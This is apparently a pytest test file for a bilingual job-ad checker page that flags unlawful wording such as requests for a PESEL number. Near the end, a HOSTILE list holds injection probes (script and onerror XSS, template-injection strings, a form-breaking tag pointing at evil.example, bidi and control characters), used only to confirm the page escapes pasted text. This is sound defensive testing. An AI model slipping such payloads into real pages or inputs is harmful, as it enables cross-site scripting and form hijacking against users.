"""Somebody pastes a job ad and reads what is wrong with it; nothing is kept or executed."""

from itertools import product

import pytest

from kamquiz.checker_process import ADS_AT_ONCE
from kamquiz.domain.bank.ad_rules import Severity
from kamquiz.domain.text import Language
from kamquiz.jobcheck import check
from kamquiz.web.jobs.findings import MAX_SHOWN
from tests.jobcheck.planting import CLEAN, planted
from tests.visitor import Visitor

FAULTY = planted("pl", "process", "W zgłoszeniu podaj PESEL.")


@pytest.fixture
def checker(anyone):
    anyone.open("check")
    return anyone


def cards(page) -> list:
    return [one for one in page.all("li") if (one.get("class") or "").startswith("finding ")]


def marks(page) -> list[str]:
    return page.texts("mark")


def words(element) -> str:
    return " ".join("".join(element.itertext()).replace("\xa0", " ").split())


def reason_names(page) -> list[str]:
    return [name for name in page.forms()[0].values if name.startswith("reason-")]


def test_the_page_is_found_from_the_builder(anyone):
    anyone.open("jobs")
    anyone.follow({"pl": "Sprawdzanie ogłoszeń", "en": "Check an ad"}[anyone.language])

    assert anyone.page.address == f"/{anyone.language}/check"


def test_a_fault_is_marked_in_the_text_and_told_with_reason_source_and_rewrite(checker, catalogue):
    page = checker.send(ad=FAULTY)

    (finding,) = [
        one for one in check(FAULTY, catalogue.law, language=None) if one.severity is Severity.ERROR
    ]
    card = words(cards(page)[0])
    assert marks(page)[0] == finding.quote == "PESEL"
    assert finding.rule in card
    assert "art. 22(1)" in card
    assert {"pl": "Zamiast tego:", "en": "Instead:"}[checker.language] in card


def test_mark_and_card_lead_to_each_other(checker):
    page = checker.send(ad=FAULTY)

    (number,) = [one.get("href") for one in page.all("a") if one.get("class") == "ref"]
    assert number == "#finding-1"
    assert "#place-1" in [one.get("href") for one in page.all("a")]


def test_the_ad_is_shown_whole_with_its_marks(checker):
    page = checker.send(ad=FAULTY.replace("\n", "\r\n"))

    (shown,) = [one for one in page.all("div") if one.get("class") == "ad"]
    for one in [*shown.iter("a")]:
        one.text = ""
    assert "".join(shown.itertext()).split() == FAULTY.split()
    assert page.forms()[0].values["ad"].split() == FAULTY.split()


def test_a_clean_ad_is_not_called_perfect(checker):
    page = checker.send(ad=CLEAN[checker.language])

    assert not cards(page)
    assert {"pl": "nie dowód", "en": "no proof"}[checker.language] in page.text


def test_a_finding_is_passed_over_with_a_reason_that_stays(checker):
    checker.send(ad=FAULTY)
    (name,) = reason_names(checker.page)

    page = checker.send(**{name: "Wymaga tego ustawa"})

    assert page.forms()[0].values[name] == "Wymaga tego ustawa"
    assert not marks(page)
    assert {"pl": "Błędy: 0", "en": "Errors: 0"}[checker.language] in page.text
    again = checker.send(ad=FAULTY + "\n\nProsimy o zdjęcie.")
    assert again.forms()[0].values[name] == "Wymaga tego ustawa"
    assert "zdjęcie" in " ".join(marks(again))


def test_a_reason_survives_until_its_finding_comes_back(checker):
    checker.send(ad=FAULTY)
    (name,) = reason_names(checker.page)
    checker.send(**{name: "Wymaga tego ustawa"})

    checker.send(ad=CLEAN["pl"])
    page = checker.send(ad=FAULTY)

    assert page.forms()[0].values[name] == "Wymaga tego ustawa"
    assert not marks(page)


def test_without_its_reason_the_finding_counts_again(checker):
    checker.send(ad=FAULTY)
    (name,) = reason_names(checker.page)
    checker.send(**{name: "Wymaga tego ustawa"})

    page = checker.send(**{name: ""})

    assert marks(page) == ["PESEL"]


def test_overlapping_findings_are_each_marked_once(checker):
    ad = "Szukamy młodego, dynamicznego handlowca z pasją do 35 lat."

    page = checker.send(ad=ad)

    (shown,) = [one for one in page.all("div") if one.get("class") == "ad"]
    for one in [*shown.iter("a")]:
        one.text = ""
    assert "".join(shown.itertext()) == ad
    assert len(marks(page)) >= 3


def test_two_versions_are_compared(checker):
    both = f"{CLEAN['pl']}\n\n---\n\n{CLEAN['en'].replace('10,000', '11,000')}"

    page = checker.send(ad=both)

    assert any("parity" in words(one) for one in cards(page))


@pytest.mark.parametrize(
    "ad",
    [
        "Wir suchen einen Mitarbeiter im Vertrieb. Sie betreuen unsere wichtigsten Kunden.",
        "Nous cherchons une personne pour la vente. Vous conseillez nos clients principaux.",
    ],
)
def test_a_third_language_is_not_judged_and_the_page_says_so(checker, ad):
    page = checker.send(ad=ad)

    (card,) = cards(page)
    assert "language-unknown" in words(card)
    assert {"pl": "polsk", "en": "Polish"}[checker.language] in words(card)


@pytest.mark.parametrize("ad", ["", "   \r\n "])
def test_an_empty_form_says_what_to_do(checker, ad):
    page = checker.send(ad=ad, status=422)

    assert list(page.summary().values()) == ["#ad"]


def test_a_text_of_sixty_kilobytes_is_kept_and_its_length_told(checker):
    ad = ("Praca w handlu, umowa od stycznia. " * 2000)[:61_440]

    page = checker.send(ad=ad, status=422)

    (line,) = page.summary()
    assert "61440" in line
    assert "51200" in line
    assert page.forms()[0].values["ad"] == ad


@pytest.mark.parametrize(
    ("text", "count", "pl", "en"),
    [
        ("a " * 12_000, "12", "słów i liczb", "words and numbers"),
        ("title:i\n" * 5_000, "5", "wierszy", "lines"),
        (
            " ".join(map("".join, product("abcdefghijklmnop", repeat=3))),
            "4",
            "różnych",
            "different",
        ),
    ],
    ids=["words", "lines", "different words"],
)
def test_more_words_or_lines_than_any_ad_has_are_told_and_kept(checker, text, count, pl, en):
    page = checker.send(ad=text, status=422)

    (line,) = page.summary()
    assert {"pl": pl, "en": en}[checker.language] in line
    assert count in line
    assert page.forms()[0].values["ad"].split() == text.split()
    assert not cards(page)


def test_fifty_kilobytes_of_polish_are_checked(checker):
    page = checker.send(ad=("Źródło: żółć, ćma. " * 3000)[: 50 * 1024])

    assert page.status == 200


def test_only_a_check_takes_large_bodies(checker):
    checker.open("return")
    page = checker.send(codename="ż" * 30_000, status=413)

    assert page.status == 413


HOSTILE = [
    "<script>alert('x')</script>\"><img src=x onerror=alert(1)>",
    "{{ 7*7 }} {% raw %} ${7*7} %(name)s %s",
    "</textarea></form><form action=//evil.example>",
    "\u202eodwrócone\u202c \u200b 𝕵𝖊𝖘𝖙𝖊ś 👍 samodzielny",
    "\x00\x0b\x1b[31m Praca",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_is_pasted_is_text_and_nothing_else(checker, hostile):
    page = checker.send(ad=f"{hostile}\n{FAULTY}\n{hostile}")

    assert [one.get("src", "").partition("?")[0] for one in page.all("script")] == [
        "/static/kamquiz.js"
    ]
    assert all(one.get("src").startswith("/static/") for one in page.all("img"))
    assert len(page.forms()) == 1
    assert "<script>alert" not in page.html.replace("&lt;", "")
    assert "PESEL" in marks(page)


def test_a_reason_is_text_and_nothing_else(checker):
    checker.send(ad=FAULTY)
    (name,) = reason_names(checker.page)

    page = checker.send(**{name: HOSTILE[0]})

    assert page.forms()[0].values[name] == HOSTILE[0]
    assert all(one.get("src").startswith("/static/") for one in page.all("img"))


def test_a_field_the_page_never_has_is_refused(checker):
    checker.send(ad=FAULTY, status=400, **{"reason-<script>": "x"})


def test_a_text_full_of_faults_shows_the_first_and_counts_the_rest(checker):
    page = checker.send(ad=FAULTY + "\n\n" + "W zgłoszeniu podaj PESEL. " * 400)

    assert len(cards(page)) == MAX_SHOWN
    assert {"pl": "dalszych nie", "en": "more are not"}[checker.language] in page.text


def test_rules_say_by_which_source_and_as_of_when(checker, catalogue):
    text = words(next(one for one in checker.page.all("details") if one.get("id") == "rules"))

    for rule in catalogue.law.rules:
        assert rule.id in text
    assert "2026" in text


def test_rules_that_nobody_compared_for_six_months_are_called_out_of_date(checker, clock):
    stale = {"pl": "ponad sześć miesięcy temu", "en": "more than six months ago"}[checker.language]
    assert stale not in checker.page.text.replace("\xa0", " ")

    clock.pass_(days=200)
    checker.open("check")

    assert stale in checker.page.text.replace("\xa0", " ")


def test_nothing_opens_the_database(app, no_database):
    visitor = Visitor(app)
    visitor.open("check")
    visitor.send(ad=FAULTY)

    assert not no_database.exists()


@pytest.fixture
def busy(app, catalogue):
    """The checker has two ads at hand already."""
    services = app.extensions["kamquiz"]
    services.check_beside()
    for _ad in range(ADS_AT_ONCE):
        assert services._checker._places.acquire(blocking=False)
    return services


LONG = (CLEAN["pl"] + "\n\n") * 3


def test_while_others_are_checked_the_text_is_kept_and_asked_for_again(checker, busy):
    page = checker.send(ad=LONG, status=503)

    assert list(page.summary().values()) == ["#ad"]
    assert page.forms()[0].values["ad"].split() == LONG.split()
    assert page.headers["Retry-After"] == "5"


def test_a_short_ad_waits_for_no_other(checker, busy):
    assert marks(checker.send(ad="W zgłoszeniu podaj PESEL.")) == ["PESEL"]


def test_ads_are_checked_by_a_process_of_their_own_with_the_same_result(app, checker, catalogue):
    services = app.extensions["kamquiz"]
    here = services.examine(LONG + FAULTY, Language.PL)
    services.check_beside()
    try:
        assert services.examine(LONG + FAULTY, Language.PL) == here
        page = checker.send(ad=LONG + FAULTY)
    finally:
        services._checker.stop()

    assert "PESEL" in marks(page)


def test_the_builder_opens_while_others_are_checked(anyone, busy):
    anyone.open("jobs")

    assert anyone.page.status == 200


@pytest.mark.parametrize("button", ["preview-1", "check", "md"])
def test_a_draft_of_the_builder_is_kept_while_others_are_checked(anyone, busy, button):
    anyone.open("jobs")
    own = {f"own-must-{anyone.language}": "\n".join(["Lubi ludzi i liczby. " * 40] * 9)}

    page = anyone.send(do=button, status=503, **own)

    assert "#findings" in page.summary().values()
    assert page.forms()[0].values[f"own-must-{anyone.language}"].split() == (
        own[f"own-must-{anyone.language}"].split()
    )
